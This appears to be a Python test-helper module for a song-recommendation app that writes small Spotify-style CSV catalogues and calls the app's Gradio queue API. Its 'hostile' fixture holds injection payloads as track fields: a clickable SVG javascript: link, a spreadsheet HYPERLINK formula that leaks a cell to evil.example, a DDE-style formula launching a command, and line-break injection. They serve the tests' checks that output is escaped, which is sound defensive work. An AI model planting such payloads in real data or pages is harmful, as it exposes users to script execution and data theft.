"""Small catalogue files the tests write, in each supported schema."""

from __future__ import annotations

import csv
import gzip
import html
import re
import socket
from pathlib import Path

from index_builder.settings import PROJECT_ROOT, Settings

SPOTIFY_HEADER = [
    "track_id", "track_name", "track_artist", "track_popularity", "track_album_release_date", "playlist_genre",
    "danceability", "energy", "loudness", "speechiness", "acousticness", "instrumentalness", "liveness",
    "valence", "tempo", "duration_ms",
]  # fmt: skip

# fmt: off
SPOTIFY_ROWS = [
    ["id1", "Gym Rush", "Power Crew", "70", "2019-05-01", "edm", "0.82", "0.95", "-3.1", "0.05", "0.01", "0.6", "0.1", "0.7", "150.2", "180000"],
    ["id2", "Quiet Rain", "Lena Soft", "35", "2012-03", "folk", "0.35", "0.15", "-16.0", "0.04", "0.92", "0.0", "0.11", "0.12", "72.0", "245000"],
    ["id3", "Block Party", "MC Verse", "80", "2016", "rap", "0.88", "0.72", "-5.0", "0.45", "0.08", "0.0", "0.2", "0.8", "98.0", "200000"],
    ["id1", "Gym Rush", "Power Crew", "70", "2019-05-01", "edm", "0.82", "0.95", "-3.1", "0.05", "0.01", "0.6", "0.1", "0.7", "150.2", "180000"],
    ["id4", "quiet rain", "Lena Soft", "30", "2013-01-01", "folk", "0.36", "0.16", "-15.0", "0.04", "0.90", "0.0", "0.12", "0.14", "73.0", "246000"],
    ["id5", "Sunny Drive", "The Roadsters;DJ Wheel", "55", "2018-07-20", "pop", "0.7", "0.8", "-5.5", "0.06", "0.2", "0.0", "0.15", "0.9", "122.0", "210000"],
]
# fmt: on

SVG_GENRE = '<svg width="400" height="400"><a href="javascript:alert(document.domain)"><rect width="400" height="400"/></a></svg>'
"""A genre that, unescaped, draws a box that runs script when clicked."""
MATH_TITLE = r"$$\color{red}{\Huge X}$$"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULA_ARTIST = "@SUM(1+1)*cmd|' /C calc'!A0"
LINK_TITLE = "Visit https://evil.example/path or www.evil.example now"
BROKEN_TITLE = "Line one\n2. injected item\r\n- another"

# fmt: off
HOSTILE_ROWS = [
    ["h1", FORMULA_TITLE, FORMULA_ARTIST, "70", "2013-05-01", SVG_GENRE, "0.80", "0.90", "-4.0", "0.05", "0.02", "0.1", "0.1", "0.8", "128.0", "200000"],
    ["h2", MATH_TITLE, "Math Crew", "60", "2014", SVG_GENRE, "0.30", "0.20", "-14.0", "0.04", "0.90", "0.0", "0.1", "0.2", "70.0", "240000"],
    ["h3", LINK_TITLE, "contact me at a@b.co", "50", "2016", "pop", "0.70", "0.75", "-5.0", "0.05", "0.20", "0.0", "0.2", "0.9", "120.0", "210000"],
    ["h4", BROKEN_TITLE, "-Dash Artist", "40", "2018", "+plus", "0.60", "0.55", "-7.0", "0.30", "0.10", "0.0", "0.3", "0.5", "95.0", "190000"],
    ["h5", "Quiet Rain", "Lena Soft", "35", "2012", SVG_GENRE, "0.35", "0.15", "-16.0", "0.04", "0.92", "0.0", "0.11", "0.12", "72.0", "245000"],
    ["h6", "Gym Rush", "Power Crew", "75", "2019", "edm", "0.82", "0.95", "-3.1", "0.05", "0.01", "0.6", "0.1", "0.7", "150.2", "180000"],
]
# fmt: on


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    """Write a CSV (gzip-compressed when the name ends in .gz)."""
    opener = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "wt", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def spotify_catalogue(tmp_path: Path, name: str = "spotify.csv") -> Path:
    """A small Spotify-export catalogue with one repeated id and one repeated title+artist."""
    return write_csv(tmp_path / name, SPOTIFY_HEADER, SPOTIFY_ROWS)


def hostile_catalogue(tmp_path: Path, name: str = "hostile.csv") -> Path:
    """A Spotify-export catalogue whose titles, artists and genres carry markup, formulas, links and line breaks."""
    return write_csv(tmp_path / name, SPOTIFY_HEADER, HOSTILE_ROWS)


def test_settings(tmp_path: Path, catalogue: Path, **changes: object) -> Settings:
    """Settings whose index lives under ``tmp_path``; the model cache stays shared (assembled once). The shipped
    index is not used unless asked for (``shipped_index_dir=SHIPPED_INDEX_DIR``): the bundled catalogue is built by
    the encoder under test, as it always was."""
    values: dict[str, object] = {"shipped_index_dir": None, **changes}
    return Settings(
        catalogue_path=catalogue,
        index_root=tmp_path / "indexes",
        data_dir=tmp_path / "data",
        prompts_dir=PROJECT_ROOT / "prompts",
        show_progress=False,
        **values,
    )  # type: ignore[arg-type]


test_settings.__test__ = False  # type: ignore[attr-defined]


LISTED = re.compile(r"^\d+\. \*\*(?P<title>.+?)\*\* by (?P<artist>.+?) \((?P<genre>.+?)(?:, (?P<year>\d{4}))?\)  $")
"""One song line of a chat reply."""


def free_port() -> int:
    """A port nothing listens on right now."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def listed_songs(reply: str, engine) -> list:
    """The catalogue rows of the songs a chat reply lists, found by their (unescaped) title and artist."""
    songs = engine.songs
    rows = []
    for line in reply.splitlines():
        match = LISTED.match(line)
        if match:
            title, artist = (html.unescape(re.sub(r"\\(.)", r"\1", match[name])) for name in ("title", "artist"))
            found = songs[(songs["title"] == title) & (songs["artist"] == artist)]
            assert len(found) == 1, (title, artist)
            rows.append(found.iloc[0])
    return rows


def queue_call(url: str, api_name: str, data: list) -> dict:
    """Call a named endpoint the way the browser does (queue/join, then the queue/data stream), with the JSON body
    ASCII-escaped so that it can carry lone surrogates; the ``process_completed`` message, or an AssertionError
    naming what came instead (an ``unexpected_error``, or a stream that ended without an answer)."""
    import json
    import uuid

    import httpx

    base = url.rstrip("/")
    config = httpx.get(f"{base}/config", timeout=30).json()
    dependency = next(d for d in config["dependencies"] if d.get("api_name") == api_name)
    session = uuid.uuid4().hex[:12]
    padded = [*data, *[None] * (len(dependency["inputs"]) - len(data))]  # State inputs, as gradio_client sends them
    body = {"data": padded, "fn_index": dependency["id"], "session_hash": session, "event_data": None}
    joined = httpx.post(
        f"{base}/gradio_api/queue/join",
        content=json.dumps({**body, "trigger_id": None}, ensure_ascii=True),
        headers={"content-type": "application/json"},
        timeout=30,
    )
    assert joined.status_code == 200, joined.text
    seen = []
    with httpx.stream("GET", f"{base}/gradio_api/queue/data", params={"session_hash": session}, timeout=120) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                message = json.loads(line[5:])
                seen.append(message.get("msg"))
                assert message.get("msg") != "unexpected_error", message
                if message.get("msg") == "process_completed":
                    return message
    raise AssertionError(f"the stream ended without an answer: {seen}")


PLAYLIST_HEADER = [*SPOTIFY_HEADER, "playlist_id", "playlist_name"]
"""A Spotify playlist export: a row per song of each playlist."""
# Songs: two fast electronic gym tracks, two slow folk songs, two party rap songs; each playlist mixes in one song of
# another kind, so co-occurrence says something sound alone cannot (Late Night Mix puts Rain Waltz with the rap).
_PLAYLIST_SONGS = {
    "p1": ["p1", "Gym Rush", "Power Crew", "70", "2019-05-01", "edm", "0.82", "0.95", "-3.1", "0.05", "0.01", "0.6", "0.1", "0.7", "150.2", "180000"],
    "p2": ["p2", "Lift Off", "Power Crew", "65", "2020", "edm", "0.80", "0.93", "-3.5", "0.06", "0.02", "0.5", "0.1", "0.65", "148.0", "190000"],
    "p3": ["p3", "Quiet Rain", "Lena Soft", "35", "2012-03", "folk", "0.35", "0.15", "-16.0", "0.04", "0.92", "0.0", "0.11", "0.12", "72.0", "245000"],
    "p4": ["p4", "Rain Waltz (feat. Ana Mar)", "Lena Soft", "30", "2013", "folk", "0.33", "0.18", "-15.0", "0.04", "0.90", "0.0", "0.12", "0.15", "75.0", "250000"],
    "p5": ["p5", "Block Party", "MC Verse", "80", "2016", "rap", "0.88", "0.72", "-5.0", "0.45", "0.08", "0.0", "0.2", "0.8", "98.0", "200000"],
    "p6": ["p6", "Corner Store", "MC Verse", "60", "2017", "rap", "0.85", "0.70", "-5.5", "0.40", "0.10", "0.0", "0.2", "0.75", "96.0", "205000"],
    "p7": ["p7", "Señorita", "Beyoncé", "75", "2015", "pop", "0.70", "0.60", "-6.0", "0.05", "0.30", "0.0", "0.1", "0.6", "110.0", "200000"],
}  # fmt: skip
PLAYLISTS = {
    "pl-gym": ("Gym Hits", ["p1", "p2", "p7"]),
    "pl-calm": ("Calm Evening", ["p3", "p4", "p7"]),
    "pl-night": ("Late Night Mix", ["p5", "p6", "p4"]),
    "pl-night2": ("Night Drive", ["p5", "p4"]),
}


def playlist_catalogue(tmp_path: Path, name: str = "playlists.csv") -> Path:
    """A small Spotify playlist export (``playlist_id``, ``playlist_name``): seven songs in four playlists."""
    rows = [
        [*_PLAYLIST_SONGS[song], playlist_id, playlist_name]
        for playlist_id, (playlist_name, songs) in PLAYLISTS.items()
        for song in songs
    ]
    return write_csv(tmp_path / name, PLAYLIST_HEADER, rows)
